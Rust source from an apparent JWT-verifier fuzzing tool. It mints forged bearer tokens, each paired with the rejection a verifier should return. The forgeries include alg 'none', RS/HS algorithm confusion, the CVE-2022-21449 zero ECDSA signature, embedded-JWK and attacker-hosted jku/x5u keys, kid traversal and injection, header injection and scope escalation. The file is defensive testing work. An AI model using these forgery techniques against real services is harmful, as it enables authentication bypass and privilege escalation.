            TabSeparator => case(
                vec![format!("Bearer\t{valid}")],
                Some(valid),
                reject(Rejection::MalformedHeader),
            ),
            TrailingData => {
                let h = match v % 3 {
                    0 => format!("Bearer {valid} extra"),
                    1 => format!("Bearer {valid}, Bearer {valid}"),
                    _ => format!("Bearer {valid};"),
                };
                case(vec![h], Some(valid), reject(Rejection::MalformedHeader))
            }
            DuplicateHeaders => case(
                vec![bearer(&valid), bearer(&valid)],
                Some(valid),
                reject(Rejection::MultipleCredentials),
            ),
            HeaderInjection => {
                let h = match v % 3 {
                    0 => format!("Bearer {valid}\r\nX-Injected: 1"),
                    1 => format!("Bearer {valid}\0"),
                    _ => format!("Bearer \x1b{valid}"),
                };
                case(vec![h], Some(valid), reject(Rejection::MalformedHeader))
            }
            Oversized => {
                let pad = ctx.max_token_bytes + 1 + (v % 64) * 16;
                claims["pad"] = json!("A".repeat(pad));
                single(trusted(&header, &claims), reject(Rejection::Oversized))
            }
            AlgNone => {
                let mut h = header.clone();
                h["alg"] = json!(NONE_SPELLINGS[v % NONE_SPELLINGS.len()]);
                let signer = if (v / 4).is_multiple_of(2) {
                    Signer::Fixed(Vec::new())
                } else {
                    Signer::Key(&ctx.trusted, ctx.key.alg)
                };
                single(
                    sign_with(&h.to_string(), &claims.to_string(), signer),
                    reject(Rejection::AlgNone),
                )
            }
            StrippedSignature => {
                let body = valid.rsplit_once('.').map_or("", |(b, _)| b);
                single(format!("{body}."), reject(Rejection::BadSignature))
            }
            WrongKey => single(forge(&header, &claims), reject(Rejection::BadSignature)),
            TamperedPayload => {
                // Re-encode an escalated payload under the original signature.
                let mut escalated = claims.clone();
                escalated["scope"] = json!(format!("{} docs:write docs:admin", principal.scope));
                escalated[subject] = json!("admin");
                let sig = valid.rsplit('.').next().unwrap_or_default();
                let h64 = valid.split('.').next().unwrap_or_default();
                let p64 = URL_SAFE_NO_PAD.encode(escalated.to_string());
                single(
                    format!("{h64}.{p64}.{sig}"),
                    reject(Rejection::BadSignature),
                )
            }
            AlgConfusion => {
                let mut h = header.clone();
                let token = match (&ctx.key.public_pem, is_hmac(ctx.key.alg)) {
                    // RS→HS: the public key, which the attacker has, as the HMAC secret.
                    (Some(public), false) => {
                        h["alg"] = json!(["HS256", "HS384", "HS512"][v % 3]);
                        let alg = [Algorithm::HS256, Algorithm::HS384, Algorithm::HS512][v % 3];
                        match EncodingKey::from_secret(public) {
                            Ok(k) => sign_with(
                                &h.to_string(),
                                &claims.to_string(),
                                Signer::Key(&PreparedKey::new(k, alg), alg),
                            ),
                            Err(_) => String::new(),
                        }
                    }
                    // HS→RS: an attacker RSA signature under an asymmetric `alg`.
                    _ => {
                        h["alg"] = json!("RS256");
                        sign_with(
                            &h.to_string(),
                            &claims.to_string(),
                            Signer::Key(&ctx.attacker.rsa, Algorithm::RS256),
                        )
                    }
                };
                single(token, reject(Rejection::AlgMismatch))
            }
            EcdsaZeroSignature => {
                // CVE-2022-21449: r = s = 0 passed Java's ECDSA check.
                let mut h = header.clone();
                h["alg"] = json!("ES256");
                let len = if v.is_multiple_of(2) { 64 } else { 8 };
                let expect = if ctx.key.alg == Algorithm::ES256 {
                    Rejection::BadSignature
                } else {
                    Rejection::AlgMismatch
                };
                single(
                    sign_with(
                        &h.to_string(),
                        &claims.to_string(),
                        Signer::Fixed(vec![0; len]),
                    ),
                    reject(expect),
                )
            }
            EmbeddedJwk => {
                // CVE-2018-0114: the token brings its own key.
                let mut h = header.clone();
                h["jwk"] = json!({
                    "kty": "RSA", "e": "AQAB", "n": ctx.attacker.rsa_pub_jwk_n,
                });
                let signer = match ctx.key.alg {
                    a if is_hmac(a) => Signer::Key(&ctx.attacker.hmac, a),
                    _ => {
                        h["alg"] = json!("RS256");
                        Signer::Key(&ctx.attacker.rsa, Algorithm::RS256)
                    }
                };
                single(
                    sign_with(&h.to_string(), &claims.to_string(), signer),
                    reject(Rejection::KeyInHeader),
                )
            }
            RemoteKeyUrl => {
                let mut h = header.clone();
                let member = ["jku", "x5u"][v % 2];
                h[member] = json!(format!(
                    "{ATTACKER_BASE}/.well-known/jwks-{}.json",
                    self.jti
                ));
                single(forge(&h, &claims), reject(Rejection::KeyInHeader))
            }
            KidTraversal => {
                let mut h = header.clone();
                h["kid"] = json!(KID_TRAVERSALS[v % KID_TRAVERSALS.len()]);
                h["alg"] = json!("HS256");
                // `/dev/null` reads as the empty key.
                single(
                    sign_with(&h.to_string(), &claims.to_string(), Signer::RawHmac(b"")),
                    reject(kid_forgery_verdict()),
                )
            }
            KidInjection => {
                let (kid, secret) = KID_INJECTIONS[v % KID_INJECTIONS.len()];
                let mut h = header.clone();
                h["kid"] = json!(kid);
                h["alg"] = json!("HS256");
                single(
                    sign_with(
                        &h.to_string(),
                        &claims.to_string(),
                        Signer::RawHmac(secret.as_bytes()),
                    ),
                    reject(kid_forgery_verdict()),
                )
            }
            UnknownCrit => {
                let mut h = header.clone();
                h["crit"] = match v % 3 {
                    0 => json!(["exp"]),
                    1 => json!(["urn:confab:unknown-extension"]),
                    _ => json!([]),
                };
                if v % 3 == 1 {
                    h["urn:confab:unknown-extension"] = json!(true);
                }
                single(trusted(&h, &claims), reject(Rejection::UnsupportedCrit))
            }
            TypConfusion => {
                let mut h = header.clone();
                h["typ"] = json!(["JWT", "id_token+jwt", "JWE", "at+jwt+evil"][v % 4]);
                // Only a guard that requires a `typ` refuses these.
                let expect = match &ctx.typ {
                    Some(_) => reject(Rejection::TypMismatch),
                    None => accept(&principal.scope),
                };
                single(trusted(&h, &claims), expect)
            }
            Expired => {
                claims["exp"] = json!(now.saturating_sub(ctx.leeway_s + skew));
                claims["iat"] = json!(now.saturating_sub(ctx.leeway_s + skew + 3600));
                claims["nbf"] = json!(now.saturating_sub(ctx.leeway_s + skew + 3600));
                single(trusted(&header, &claims), reject(Rejection::Expired))
            }
            NotYetValid => {
                claims["nbf"] = json!(now + ctx.leeway_s + 1 + skew);
                claims["exp"] = json!(now + ctx.leeway_s + 1 + skew + 900);
                single(trusted(&header, &claims), reject(Rejection::NotYetValid))
            }
            MissingExp => {
                remove_member(&mut claims, "exp");
                single(trusted(&header, &claims), reject(Rejection::MissingExp))
            }
            StringNumericDate => {
                let member = ["exp", "nbf", "iat"][v % 3];
                let value = claims[member].as_u64().unwrap_or(now);
                claims[member] = json!(value.to_string());
                single(trusted(&header, &claims), reject(Rejection::ClaimType))
            }
            WrongIssuer | MissingIssuer => {
                if self.family == WrongIssuer {
                    let iss = ctx.issuer.clone().unwrap_or_default();
                    claims["iss"] = json!(match v % 3 {
                        0 => "https://attacker.test".to_owned(),
                        1 => format!("{iss}/"),
                        _ => iss.to_uppercase(),
                    });
                } else {
                    remove_member(&mut claims, "iss");
                }
                let expect = match &ctx.issuer {
                    Some(want) if claims.get("iss").and_then(|i| i.as_str()) != Some(want) => {
                        reject(Rejection::IssuerMismatch)
                    }
                    _ => accept(&principal.scope),
                };
                single(trusted(&header, &claims), expect)
            }
            WrongAudience | MissingAudience => {
                if self.family == WrongAudience {
                    let aud = ctx.audience.clone().unwrap_or_default();
                    claims["aud"] = match v % 3 {
                        0 => json!("other-api"),
                        1 => json!(["other-api", format!("{aud}x")]),
                        _ => json!([]),
                    };
                } else {
                    remove_member(&mut claims, "aud");
                }
                let expect = if ctx.audience.is_some() {
                    reject(Rejection::AudienceMismatch)
                } else {
                    accept(&principal.scope)
                };
                single(trusted(&header, &claims), expect)
            }
            MissingSub => {
                if v.is_multiple_of(2) {
                    remove_member(&mut claims, subject);
                } else {
                    claims[subject] = json!("");
                }
                single(trusted(&header, &claims), reject(Rejection::MissingSub))
            }
            DuplicateClaim => {
                // A second member after the first: parsers that keep the last one see "admin".
                let member = [subject, "scope", "exp"][v % 3];
                let extra = match member {
                    m if m == subject => json!("admin"),
                    "scope" => json!("docs:read docs:write docs:admin"),
                    _ => json!(now + 10 * 365 * 86400),
                };
                let body = claims.to_string();
                let payload = format!(
                    "{},\"{member}\":{extra}}}",
                    body.strip_suffix('}').unwrap_or(&body)
                );
                single(
                    ctx.sign_trusted(&header.to_string(), &payload),
                    reject(Rejection::DuplicateMember),
                )
            }
            DuplicateHeaderMember => {
                let body = header.to_string();
                let h = format!(
                    "{},\"alg\":\"none\"}}",
                    body.strip_suffix('}').unwrap_or(&body)
                );
                single(
                    ctx.sign_trusted(&h, &claims.to_string()),
                    reject(Rejection::DuplicateMember),
                )
            }
            BadBase64 => {
                let mut parts: Vec<String> = valid.split('.').map(str::to_owned).collect();
                let i = v % 3;
                let bad = ["+", "/", "~"][v / 3 % 3];
                if let Some(p) = parts.get_mut(i) {
                    let at = p.len() / 2;
                    p.insert_str(at, bad);
                }
                single(parts.join("."), reject(Rejection::MalformedToken))
            }
            PaddedSegments => {
                // Find a payload whose base64url form needs padding (one of three lengths does).
                let mut t = valid.clone();
                for pad in ["", "x", "xy"] {
                    claims["pad"] = json!(pad);
                    t = trusted(&header, &claims);
                    if t.split('.').nth(1).map_or(0, str::len) % 4 != 0 {
                        break;
                    }
                }
                let parts: Vec<&str> = t.split('.').collect();
                let (h64, p64, s64) = (parts[0], parts[1], parts[2]);
                if v.is_multiple_of(2) {
                    // Padding at the end is still a b64token, but JWS forbids it.
                    single(
                        format!("{h64}.{p64}.{s64}="),
                        reject(Rejection::MalformedToken),
                    )
                } else {
                    // Inside the credential, `=` is not even b64token syntax.
                    let n = (4 - p64.len() % 4) % 4;
                    let padded = format!("{h64}.{p64}{}.{s64}", "=".repeat(n.max(1)));
                    single(padded, reject(Rejection::MalformedHeader))
                }
            }
            WrongSegmentCount => {
                let t = match v % 4 {
                    0 => valid
                        .rsplit_once('.')
                        .map_or(String::new(), |(b, _)| b.to_owned()),
                    1 => format!("{valid}.{}", URL_SAFE_NO_PAD.encode("extra")),
                    // A JWE-shaped five-part token.
                    2 => format!("{valid}.AAAA.BBBB"),
                    _ => valid.replacen('.', "", 1),
                };
                single(t, reject(Rejection::MalformedToken))
            }
            NotJson => {
                let garbage = ["not json", "[]", "{\"alg\":", "\u{feff}{}"][v % 4];
                let (h, c) = if (v / 4).is_multiple_of(2) {
                    (garbage.to_owned(), claims.to_string())
                } else {
                    (header.to_string(), garbage.to_owned())
                };
                // Garbage in either place is malformed (a payload only after the signature).
                single(ctx.sign_trusted(&h, &c), reject(Rejection::MalformedToken))
            }
            // A login's tokens without scopes, on an endpoint that needs none: the app's claims
            // have no `scope` to confuse.
            ScopeCommaSeparated | ScopeArray | ScopeWildcard | ScopeCaseChanged | ScopePrefix
            | ScopeHomoglyph | ScopeMissing
                if principal.from_login
                    && principal.scope.is_empty()
                    && ctx.required_scope.is_empty() =>
            {
                single(valid, accept(&principal.scope))
            }
            ScopeCommaSeparated | ScopeArray | ScopeWildcard | ScopeCaseChanged | ScopePrefix
            | ScopeHomoglyph | ScopeMissing => {
                let required: Vec<&str> = ctx.required_scope.iter().collect();
                let first = required.first().copied().unwrap_or("docs:read");
                let (scope_value, expect): (serde_json::Value, Expected) = match self.family {
                    ScopeCommaSeparated => {
                        let mut items: Vec<&str> = required.clone();
                        items.push("docs:extra");
                        let joined = items.join(",");
                        (json!(joined), accept(&ScopeSet::parse(&joined)))
                    }
                    // RFC 8693 §4.2: `scope` is a string; an array is malformed.
                    ScopeArray => (json!(required), reject(Rejection::ClaimType)),
                    ScopeWildcard => {
                        let s = ["*", "docs:*", "*:*", ".*"][v % 4];
                        (json!(s), accept(&ScopeSet::parse(s)))
                    }
                    ScopeCaseChanged => {
                        let s = if v.is_multiple_of(2) {
                            first.to_uppercase()
                        } else {
                            capitalize(first)
                        };
                        (json!(s), accept(&ScopeSet::parse(&s)))
                    }
                    ScopePrefix => {
                        let s = match v % 3 {
                            0 => format!("{first}only"),
                            1 => first.split(':').next().unwrap_or(first).to_owned(),
                            _ => format!("x{first}"),
                        };
                        (json!(s), accept(&ScopeSet::parse(&s)))
                    }
                    ScopeHomoglyph => {
                        let s = homoglyph(first, v);
                        (json!(s), accept(&ScopeSet::parse(&s)))
                    }
                    _ => (json!(""), accept(&ScopeSet::new())),
                };
                claims["scope"] = scope_value;
                single(trusted(&header, &claims), expect)
            }
        }
    }

    /// Builds a recipe from fuzzer bytes.
    pub fn from_bytes(data: &[u8]) -> arbitrary::Result<TokenRecipe> {
        arbitrary::Unstructured::new(data).arbitrary()
    }
}

fn capitalize(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for (i, c) in s.chars().enumerate() {
        if i == 0 {
            out.extend(c.to_uppercase());
        } else {
            out.push(c);
        }
    }
    out
}

/// Swaps one character for a look-alike (Cyrillic, fullwidth, or a zero-width joiner).
fn homoglyph(s: &str, variant: usize) -> String {
    const SWAPS: [(char, char); 6] = [
        ('o', 'о'),
        ('a', 'а'),
        ('e', 'е'),
        ('c', 'с'),
        ('d', 'ԁ'),
        (':', '：'),
    ];
    let mut out = String::with_capacity(s.len() + 4);
    let mut swapped = false;
    for c in s.chars() {
        match SWAPS.iter().find(|(from, _)| *from == c) {
            Some((_, to)) if !swapped => {
                out.push(*to);
                swapped = true;
            }
            _ => out.push(c),
        }
    }
    if !swapped || variant % 2 == 1 {
        out.push('\u{200b}');
    }
    out
}

fn remove_member(v: &mut serde_json::Value, name: &str) {
    if let Some(m) = v.as_object_mut() {
        m.remove(name);
    }
}

impl MintContext {
    /// The callers tokens are minted for (at least one).
    pub fn principals(&self) -> &[TokenPrincipal] {
        &self.principals
    }

    /// Replaces caller `i` (after its login: its tokens then start from the login's claims).
    pub fn set_principal(&mut self, i: usize, principal: TokenPrincipal) {
        if let Some(p) = self.principals.get_mut(i) {
            *p = principal;
        }
    }

    /// What the token generators need to mint for `spec`'s principals, aimed at an endpoint
    /// that requires `required_scope`.
    pub fn for_spec(spec: &Spec, required_scope: ScopeSet) -> Result<MintContext, SpecError> {
        let key = spec
            .auth
            .signing_key(&spec.base_dir)
            .map_err(|e| spec.config_error(e))?
            .ok_or_else(|| {
                spec.error_at(
                    "auth.private_key_file",
                    "confab needs private key material to mint tokens the target trusts",
                )
            })?;
        let principals = if spec.principals.is_empty() {
            // Without principals, one caller holding exactly the endpoint's scope.
            vec![TokenPrincipal::new("confab-user", required_scope.clone())]
        } else {
            spec.principals
                .iter()
                .map(|p| {
                    let mut claims = spec.auth.claims.clone();
                    claims.extend(p.claims.clone());
                    // A subject given as a claim names the principal; else its name does.
                    let sub = match claims.remove(spec.subject_claim()) {
                        Some(serde_json::Value::String(s)) => s,
                        Some(other) if !other.is_null() => other.to_string(),
                        _ => p.name.clone(),
                    };
                    TokenPrincipal {
                        sub,
                        scope: ScopeSet::parse(&p.scope),
                        claims,
                        from_login: false,
                    }
                })
                .collect()
        };
        MintContext::new(key, &spec.auth, principals, required_scope)
            .map_err(|e| spec.error_at("principal", e.to_string()))
    }
}

#[cfg(test)]
mod prepared_key_tests {
    use super::*;
    use jsonwebtoken::DecodingKey;

    /// Keys parsed once sign what jsonwebtoken verifies, for every algorithm a forgery or a
    /// valid token uses, and fall back to jsonwebtoken where the pair does not fit.
    #[test]
    fn prepared_keys_sign_what_jsonwebtoken_verifies() {
        let rsa = || EncodingKey::from_rsa_pem(attacker::RSA).expect("rsa pem");
        let ec = || EncodingKey::from_ec_pem(attacker::EC).expect("ec pem");
        let ed = || EncodingKey::from_ed_pem(attacker::ED25519).expect("ed pem");
        let rsa_pub = DecodingKey::from_rsa_pem(attacker::RSA_PUB).expect("rsa pub");
        let ec_pub = DecodingKey::from_ec_pem(include_bytes!("../../keys/attacker-ec.pub.pem"))
            .expect("ec pub");
        let ed_pub =
            DecodingKey::from_ed_pem(include_bytes!("../../keys/attacker-ed25519.pub.pem"))
                .expect("ed pub");
        let msg = b"eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9";
        let cases = [
            (
                PreparedKey::new(rsa(), Algorithm::RS256),
                &rsa_pub,
                Algorithm::RS256,
            ),
            (
                PreparedKey::new(rsa(), Algorithm::RS256),
                &rsa_pub,
                Algorithm::RS512,
            ),
            (
                PreparedKey::new(rsa(), Algorithm::RS256),
                &rsa_pub,
                Algorithm::PS256,
            ),
            (
                PreparedKey::new(rsa(), Algorithm::RS256),
                &rsa_pub,
                Algorithm::PS384,
            ),
            (
                PreparedKey::new(ec(), Algorithm::ES256),
                &ec_pub,
                Algorithm::ES256,
            ),
            (
                PreparedKey::new(ed(), Algorithm::EdDSA),
                &ed_pub,
                Algorithm::EdDSA,
            ),
        ];
        for (key, public, alg) in &cases {
            assert!(!matches!(key.pair, KeyPair::None), "{alg:?} parsed once");
            let sig = key.sign(msg, *alg);
            assert!(
                jsonwebtoken::crypto::verify(&sig, msg, public, *alg).expect("verifies"),
                "{alg:?}"
            );
        }
        // Deterministic algorithms give jsonwebtoken's own bytes.
        for (key, alg) in [
            (PreparedKey::new(rsa(), Algorithm::RS256), Algorithm::RS256),
            (PreparedKey::new(ed(), Algorithm::EdDSA), Algorithm::EdDSA),
        ] {
            let expected = jsonwebtoken::crypto::sign(msg, &key.encoding, alg).expect("signs");
            assert_eq!(key.sign(msg, alg), expected, "{alg:?}");
        }
        // A P-256 key asked for ES384 signs as jsonwebtoken does: not at all.
        let p256 = PreparedKey::new(ec(), Algorithm::ES256);
        assert_eq!(p256.sign(msg, Algorithm::ES384), "");
        // HMAC: the same bytes as jsonwebtoken, and its own bytes for another HS algorithm.
        let hmac = PreparedKey::new(
            EncodingKey::from_secret(attacker::HMAC).expect("hmac"),
            Algorithm::HS256,
        );
        assert!(matches!(hmac.pair, KeyPair::Hmac(..)));
        for alg in [Algorithm::HS256, Algorithm::HS512] {
            assert_eq!(
                hmac.sign(msg, alg),
                jsonwebtoken::crypto::sign(msg, &hmac.encoding, alg).expect("signs"),
                "{alg:?}"
            );
        }
    }
}

#[cfg(test)]
mod login_minting_tests {
    use super::*;

    /// Tokens for a principal that logged in start from its login's claims (the app's own
    /// shape), re-signed; a bound claim changed or removed is what the guard then refuses.
    #[test]
    fn login_derived_tokens_keep_the_apps_claims() {
        let src = r#"
[auth]
alg = "HS256"
secret = "a-secret-a-secret-a-secret-a-secret"
subject_claim = "id"
bound_claims = ["session_stamp"]
[auth.claims]
typ = "session"
[[principal]]
name = "alice"
"#;
        let spec = Spec::parse(src, "t.toml", std::path::Path::new(".")).expect("spec");
        let mut ctx = MintContext::for_spec(&spec, ScopeSet::new()).expect("ctx");
        let mut guard = spec.guard().expect("guard");
        let login: serde_json::Map<String, serde_json::Value> = serde_json::from_value(json!({
            "id": "6f1c0f4e-2d0b-4d7e-9a53-1b2f0f6f1a11", "session_stamp": "st-1",
            "typ": "session", "role": "user", "iat": 1, "exp": 2, "jti": "x"
        }))
        .expect("claims");
        let mut claims = login.clone();
        claims.remove("id");
        ctx.set_principal(
            0,
            TokenPrincipal {
                sub: "6f1c0f4e-2d0b-4d7e-9a53-1b2f0f6f1a11".into(),
                scope: ScopeSet::new(),
                claims,
                from_login: true,
            },
        );
        guard.bind_session(
            "6f1c0f4e-2d0b-4d7e-9a53-1b2f0f6f1a11",
            vec![("session_stamp".into(), Some(json!("st-1")))],
        );
        let now = 1_800_000_000;
        let recipe = |family, variant| TokenRecipe {
            family,
            principal: 0,
            variant,
            skew_s: 0,
            jti: 7,
        };
        let valid = recipe(TokenFamily::Valid, 0).mint(&ctx, now);
        let token = valid.token.clone().expect("a token");
        let payload: serde_json::Value = serde_json::from_slice(
            &URL_SAFE_NO_PAD
                .decode(token.split('.').nth(1).expect("payload"))
                .expect("base64"),
        )
        .expect("json");
        assert_eq!(payload["id"], "6f1c0f4e-2d0b-4d7e-9a53-1b2f0f6f1a11");
        assert_eq!(payload["session_stamp"], "st-1");
        assert_eq!(payload["role"], "user");
        assert_eq!(payload["exp"], now + 900, "fresh exp, not the login's");
        assert!(payload.get("sub").is_none() && payload.get("scope").is_none());
        let who = guard
            .decide(&valid.header_bytes(), &ScopeSet::new(), now)
            .expect("valid");
        assert_eq!(who.sub, "6f1c0f4e-2d0b-4d7e-9a53-1b2f0f6f1a11");
        for variant in 0..2 {
            let stale = recipe(TokenFamily::SessionClaimChanged, variant).mint(&ctx, now);
            assert_eq!(stale.expect, Expected::Reject(Rejection::SessionMismatch));
            assert_eq!(
                guard.decide(&stale.header_bytes(), &ScopeSet::new(), now),
                Err(Rejection::SessionMismatch),
                "variant {variant}"
            );
        }
        let missing = recipe(TokenFamily::MissingSub, 0).mint(&ctx, now);
        assert_eq!(
            guard.decide(&missing.header_bytes(), &ScopeSet::new(), now),
            Err(Rejection::MissingSub)
        );
    }
}
